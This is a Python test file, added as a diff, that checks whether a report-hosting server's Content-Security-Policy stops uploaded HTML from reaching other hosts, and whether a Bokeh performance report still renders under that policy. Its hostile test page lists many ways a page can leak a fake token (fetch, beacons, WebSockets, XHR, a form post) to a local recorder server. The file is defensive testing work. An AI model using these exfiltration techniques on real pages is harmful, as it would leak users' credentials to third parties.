@@ -1,0 +1,153 @@
+"""Uploaded report pages reach nothing outside themselves (issue 9, item 10): a report
+whose HTML tries every way to contact another host, opened in Chromium from a running
+server, sends that host nothing, while the page's own inline script still runs; a real
+performance report (BokehJS inlined) still renders under the same policy."""
+from __future__ import annotations
+
+import http.server
+import threading
+import time
+
+import dask
+import dask.array as da
+import pytest
+from distributed import Client, LocalCluster
+
+from dask_analytics_lab.api import close_readers
+from dask_analytics_lab.reports import performance_report
+
+from .browser_helpers import chromium
+from .test_server_support import ServerThread, request
+
+
+class Recorder:
+    """A plain HTTP server on another 127.0.0.1 port that notes every request it gets
+    (and answers them, CORS allowed, so that nothing but the page's policy stops them)."""
+
+    def __init__(self, page: str = ""):
+        self.paths: list[str] = []
+        recorder = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def _answer(self) -> None:
+                recorder.paths.append(self.path)
+                body = page.encode() if self.path == "/control.html" else b"ok"
+                self.send_response(200)
+                self.send_header("Access-Control-Allow-Origin", "*")
+                self.send_header("Content-Type", "text/html" if self.path.endswith(".html") else "text/plain")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            do_GET = do_POST = _answer
+
+            def log_message(self, *args) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def hostile_page(other: str) -> str:
+    """Every way a page could send something to `other`, and one harmless inline script."""
+    return f"""<!doctype html><html><head>
+<link rel="stylesheet" href="{other}/stylesheet">
+<link rel="prefetch" href="{other}/prefetch">
+<script src="{other}/script.js"></script>
+<style>body {{ background: url("{other}/css-background"); }}</style>
+</head><body>
+<h1 id="said">the inline script did not run</h1>
+<img src="{other}/img">
+<iframe src="{other}/frame"></iframe>
+<object data="{other}/object"></object>
+<video src="{other}/video"></video>
+<form id="phish" action="{other}/form" method="post"><input name="token" value="dal_stolen"></form>
+<script>
+  document.getElementById("said").textContent = "the inline script ran";
+  fetch("{other}/fetch?token=dal_stolen").catch(() => {{}});
+  new Image().src = "{other}/image-from-js";
+  try {{ navigator.sendBeacon("{other}/beacon", "dal_stolen"); }} catch (e) {{}}
+  try {{ new WebSocket("{other.replace('http', 'ws')}/websocket"); }} catch (e) {{}}
+  try {{ new EventSource("{other}/event-source"); }} catch (e) {{}}
+  try {{ const x = new XMLHttpRequest(); x.open("GET", "{other}/xhr"); x.send(); }} catch (e) {{}}
+  try {{ window.open("{other}/popup"); }} catch (e) {{}}
+  try {{ new Worker("{other}/worker.js"); }} catch (e) {{}}
+  setTimeout(() => {{ try {{ document.getElementById("phish").submit(); }} catch (e) {{}} }}, 300);
+</script>
+</body></html>"""
+
+
+def test_a_report_page_contacts_no_other_host(sqlite_url):
+    other = Recorder()
+    control = Recorder(page=hostile_page(other.url))  # the same page, served with no policy
+    try:
+        with ServerThread({"store_url": sqlite_url}) as server:
+            token = server.token("A")
+            status, body, _ = request(server.url + "/api/reports", method="POST", token=token,
+                                      body={"html": hostile_page(other.url), "twin": {"summary": {}},
+                                            "filename": "r.html", "private": False})
+            assert status == 201
+            url = body["report"]["url"]
+            status, _, headers = request(url)
+            csp = headers["Content-Security-Policy"]
+            assert status == 200 and csp.startswith("sandbox") and "connect-src 'none'" in csp
+            assert "form-action 'none'" in csp and "default-src 'none'" in csp
+
+            with chromium() as browser:
+                page = browser.new_page()
+                violations: list[str] = []
+                page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
+                page.goto(url)
+                page.wait_for_function("document.getElementById('said').textContent.includes('ran')", timeout=10_000)
+                time.sleep(2)  # the form is sent after 300 ms; give every request time to arrive
+                assert page.url == url  # not navigated away by the form
+                assert page.inner_text("#said") == "the inline script ran"
+                assert other.paths == [], other.paths
+                assert violations  # Chromium says what it refused
+
+                # The control: with no policy the same page does reach the other host.
+                page = browser.new_page()
+                page.goto(control.url + "/control.html")
+                deadline = time.monotonic() + 10
+                while len(set(other.paths)) < 5 and time.monotonic() < deadline:
+                    time.sleep(0.1)
+                assert {"/img", "/fetch?token=dal_stolen", "/image-from-js"} <= set(other.paths), other.paths
+    finally:
+        other.close()
+        control.close()
+
+
+@pytest.fixture
+def client():
+    with LocalCluster(n_workers=1, threads_per_worker=1, processes=False, dashboard_address=":0") as cluster, \
+            Client(cluster) as c:
+        yield c
+    close_readers()
+
+
+def test_a_performance_report_still_renders_under_the_policy(client, sqlite_url, tmp_path):
+    with ServerThread({"store_url": sqlite_url}) as server, \
+            dask.config.set({"analytics.store": sqlite_url, "analytics.reports.base-url": server.url}):
+        with performance_report(filename=str(tmp_path / "r.html")) as report:
+            da.ones((100, 100), chunks=50).sum().compute()
+        assert report.url is not None
+        assert 'src="https://cdn.bokeh.org' not in (tmp_path / "r.html").read_text()  # BokehJS is inlined
+        with chromium() as browser:
+            page = browser.new_page()
+            errors: list[str] = []
+            page.on("pageerror", lambda e: errors.append(str(e)))
+            page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
+            page.goto(report.url)
+            page.wait_for_function("window.Bokeh && Bokeh.documents.length > 0", timeout=20_000)
+            page.wait_for_timeout(500)
+            assert page.evaluate("Bokeh.documents[0].roots().length") > 0
+            assert "Dask Performance Report" in page.evaluate(
+                "Array.from(document.querySelectorAll('*')).map(e => e.shadowRoot ? e.shadowRoot.textContent : '')"
+                ".join(' ') + document.body.textContent")
+            # distributed's template links a favicon on docs.dask.org: blocked, as it should be.
+            assert [e for e in errors if "favicon.ico" not in e] == [], errors
